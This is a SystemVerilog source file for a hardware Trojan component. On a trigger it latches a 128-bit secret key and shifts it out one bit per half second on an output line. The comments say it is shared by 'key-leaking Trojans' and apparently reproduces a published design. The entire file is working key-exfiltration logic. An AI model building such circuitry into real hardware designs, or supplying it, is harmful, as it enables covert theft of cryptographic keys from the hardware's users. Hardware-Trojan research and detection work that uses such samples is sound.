// trojan_key_sequencer: the key-bit clock shared by the key-leaking Trojans.
//
// A `trigger` pulse while idle copies the key and starts a transmission:
// bit WIDTH-1 first, then down to bit 0, each bit held for BIT_CYCLES clock
// cycles on `bit_val` while `active` is high. After the last bit the
// sequencer goes idle until the next trigger.
//
// Timing: trigger in cycle t -> `active` and the first bit in cycle t+1;
// bit k (counting from 0 at the first bit sent) occupies cycles
// t+1+k*BIT_CYCLES .. t+(k+1)*BIT_CYCLES.
//
// From the document: one key bit per half-second interval, i.e. 25,000,000
// cycles of the 50 MHz board clock. How the Trojan is triggered is left open
// there, so the trigger is a plain input; the bit order (MSB first) and the
// single pass per trigger are this design's choices.
module trojan_key_sequencer #(
  parameter int unsigned WIDTH      = 128,
  parameter int unsigned BIT_CYCLES = 25_000_000
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             trigger,
  input  logic [WIDTH-1:0] key,
  output logic             active,
  output logic             bit_val,
  output logic [$clog2(WIDTH)-1:0] bit_index
);
  localparam int unsigned CW = $clog2(BIT_CYCLES + 1);
  localparam int unsigned IW = $clog2(WIDTH);

  logic [WIDTH-1:0] key_q;
  logic [CW-1:0]    cyc;

  always_ff @(posedge clk) begin
    if (rst) begin
      active    <= 1'b0;
      key_q     <= '0;
      cyc       <= '0;
      bit_index <= '0;
    end else if (!active) begin
      if (trigger) begin
        active    <= 1'b1;
        key_q     <= key;
        cyc       <= '0;
        bit_index <= IW'(WIDTH - 1);
      end
    end else if (cyc == CW'(BIT_CYCLES - 1)) begin
      cyc <= '0;
      if (bit_index == 0) active <= 1'b0;
      else bit_index <= bit_index - 1'b1;
    end else begin
      cyc <= cyc + 1'b1;
    end
  end

  assign bit_val = active && key_q[bit_index];

endmodule
